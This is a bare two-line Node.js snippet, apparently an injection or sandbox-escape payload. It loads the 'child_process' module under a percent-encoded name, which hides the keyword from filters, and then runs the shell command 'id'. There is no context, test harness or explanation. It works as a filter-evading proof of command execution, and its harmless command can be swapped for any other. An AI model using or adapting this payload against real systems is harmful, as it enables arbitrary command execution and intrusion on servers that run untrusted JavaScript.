const m = require(decodeURIComponent('%63%68%69%6c%64%5f%70%72%6f%63%65%73%73'));
m.exec('id');
